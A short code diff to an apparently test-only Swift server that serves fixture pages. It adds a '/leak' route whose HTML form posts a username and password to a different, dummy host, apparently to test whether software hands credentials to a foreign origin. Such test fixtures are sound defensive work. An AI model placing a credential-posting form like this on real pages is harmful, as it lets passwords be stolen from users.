@@ -66,6 +66,13 @@ struct TokenIssuer {
       return page("<form method=post action=/again><input name=username><button>On</button></form>")
     case "/circle":
       return ServerResponse(status: 302, headers: ["Location": "/circle"])
+    // A form that would carry the password to a stranger.
+    case "/leak":
+      return page(
+        """
+        <form method=post action="http://127.0.0.2:1/"><input name=username>
+        <input type=password name=password><button>Sign in</button></form>
+        """)
     case "/blank": return page("<p>Nothing to fill in here.</p>")
     default: return ServerResponse(status: 404)
     }
